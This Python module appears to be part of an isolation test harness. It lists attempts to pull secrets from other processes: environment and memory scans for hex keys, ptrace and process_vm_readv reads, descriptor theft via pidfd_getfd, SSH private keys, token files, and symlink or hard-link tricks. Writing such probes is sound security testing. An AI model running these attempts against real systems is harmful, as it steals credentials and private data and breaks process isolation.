"""Attempts to read what processes hold: their environment, arguments, memory and descriptors, and files with keys."""

import ctypes
import os
import re

from attempt import LIBC, attempt, call

PTRACE_PEEKDATA, PTRACE_CONT, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 7, 17, 0x4206, 0x4207
PROCESS_VM_READV, PIDFD_OPEN, PIDFD_GETFD = 310, 434, 438
KEY = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
# Much quicker over hundreds of megabytes.
ONLY_DIGITS = bytes(byte if byte in b"0123456789abcdef" else 0x20 for byte in range(256))
CHUNK = 1 << 22


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def all_processes(file):
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/{file}", "rb") as content:
                    yield content.read()
            except OSError:
                continue


def writable_memory(pid):
    """The content of a process's writable mappings."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if not rights.startswith("rw"):
                continue
            start, end = (int(word, 16) for word in span.split("-"))
            for at in range(start, end, CHUNK):
                try:
                    memory.seek(at)
                    yield memory.read(min(CHUNK, end - at))
                except (OSError, ValueError, OverflowError):
                    break


def keys_in_memory(pid):
    found = set()
    for piece in writable_memory(pid):
        found.update(word for word in piece.translate(ONLY_DIGITS).split() if len(word) == 64)
    return found


@attempt
def own_environment(to):
    to.keep(b"\n".join(name + b"=" + value for name, value in os.environb.items()))


@attempt
def server_environ(to):
    to.keep_file(f"/proc/{to.server_pid}/environ")


@attempt
def daemon_environ(to):
    to.keep_file(f"/proc/{to.daemon_pid}/environ")


@attempt
def guard_environ(to):
    to.keep_file(f"/proc/{to.second_guard_pid}/environ")


@attempt
def owners_environ(to):
    to.keep_file(f"/proc/{to.owner_pid}/environ")


@attempt
def every_command_line(to):
    for arguments in all_processes("cmdline"):
        to.keep(arguments + b"\n")


@attempt
def every_environ(to):
    for environment in all_processes("environ"):
        to.keep(environment + b"\n")


@attempt
def server_maps(to):
    to.keep_file(f"/proc/{to.server_pid}/maps")


@attempt
def server_mem(to):
    to.keep(b"\n".join(keys_in_memory(to.server_pid)))


@attempt
def daemon_mem(to):
    to.keep(b"\n".join(keys_in_memory(to.daemon_pid)))


@attempt
def guard_mem(to):
    """It holds no key; what it was started with stands there too."""
    for piece in writable_memory(to.second_guard_pid):
        to.keep(b"\n".join(re.findall(rb"GATEPOST_NONCE=[0-9a-f]+", piece)))


@attempt
def owners_mem(to):
    to.keep(b"\n".join(keys_in_memory(to.owner_pid)))


@attempt
def server_fd(to):
    for number in os.listdir(f"/proc/{to.server_pid}/fd"):
        to.keep(os.readlink(f"/proc/{to.server_pid}/fd/{number}") + "\n")


@attempt
def server_cwd(to):
    to.keep_file(f"/proc/{to.server_pid}/cwd/{to.word_file}")


@attempt
def server_root(to):
    to.keep_file(f"/proc/{to.server_pid}/root{to.secret_key_file}")


@attempt
def server_process_vm_readv(to):
    buffer = ctypes.create_string_buffer(64)
    here, there = Piece(ctypes.addressof(buffer), 64), Piece(to.key_address, 64)
    call(PROCESS_VM_READV, to.server_pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    to.keep(buffer.raw)


def traced(pid, address):
    LIBC.ptrace.restype = ctypes.c_long
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if LIBC.ptrace(PTRACE_SEIZE, pid, None, None) == -1:
        raise OSError(ctypes.get_errno(), "PTRACE_SEIZE")
    LIBC.ptrace(PTRACE_INTERRUPT, pid, None, None)
    os.waitpid(pid, 0x40000000)
    data = b"".join(
        (LIBC.ptrace(PTRACE_PEEKDATA, pid, address + at, None) & (2**64 - 1)).to_bytes(8, "little") for at in range(0, 64, 8)
    )
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return data


@attempt
def server_ptrace(to):
    to.keep(traced(to.server_pid, to.key_address))


@attempt
def owners_ptrace(to):
    to.keep(traced(to.owner_pid, to.owner_address))


def taken_descriptor(pid, number):
    return call(PIDFD_GETFD, call(PIDFD_OPEN, pid, 0), number, 0)


@attempt
def server_pidfd_getfd(to):
    # Its standard output: what is written there comes into the server's log.
    os.write(taken_descriptor(to.server_pid, 1), to.words["server_pidfd_getfd"].encode() + b"\n")


@attempt
def owners_pidfd_getfd(to):
    os.write(taken_descriptor(to.owner_pid, to.owner_descriptor), to.words["owners_pidfd_getfd"].encode() + b"\n")


@attempt
def model_key_file(to):
    to.keep_file(to.model_key_file)


@attempt
def owner_token_file(to):
    to.keep_file(to.owner_token_file)


@attempt
def secret_key_file(to):
    to.keep_file(to.secret_key_file)


@attempt
def owners_ssh_key(to):
    to.keep_file(f"{to.home}/.ssh/id_ed25519")


@attempt
def owners_shared_memory(to):
    to.keep_file(to.shared_memory)


@attempt
def symlink_to_state(to):
    link = os.path.join(to.workspace, "link-to-state")
    os.symlink(to.secret_key_file, link)
    to.keep_file(link)


@attempt
def hard_link_to_state(to):
    link = os.path.join(to.workspace, "name-of-state")
    os.link(to.owner_token_file, link)
    to.keep_file(link)


@attempt
def conversation_files(to):
    for directory, _, names in os.walk(to.victim_directory):
        for name in names:
            to.keep_file(os.path.join(directory, name))
